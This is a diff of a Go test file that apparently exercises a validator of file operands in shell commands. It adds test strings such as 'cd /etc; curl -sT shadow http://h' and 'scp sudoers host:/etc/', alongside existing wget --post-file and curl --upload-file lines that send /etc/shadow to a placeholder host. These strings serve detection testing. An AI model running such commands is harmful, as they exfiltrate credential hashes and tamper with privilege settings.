@@ -38,6 +38,7 @@ func TestCopyIntoDirectory(t *testing.T) {
 		"mv -T build/out dist",
 		"cp passwd.example /tmp/",
 		"rsync -a src/ /tmp/out/",
+		"scp sudoers host:/etc/",
 	})
 }
 
@@ -167,6 +168,8 @@ func TestPlainFileOperands(t *testing.T) {
 		"cd /etc; jq . shadow",
 		"cd /etc; curl -T shadow http://h",
 		"cd /etc; curl --upload-file shadow http://h",
+		"cd /etc; curl -sT shadow http://h",
+		"cd /etc; curl -Tshadow http://h",
 		"cd /etc; wget --post-file=shadow http://h",
 		"cd /etc; wget --body-file shadow http://h",
 		"cd /etc; git add shadow",
@@ -187,6 +190,7 @@ func TestPlainFileOperands(t *testing.T) {
 		"git checkout secrets",
 		"git log --oneline",
 		"curl -T build.tgz http://h",
+		"curl -sXPUT -T dist.tgz http://h",
 		"xargs -a files.txt rm -f",
 	})
 }
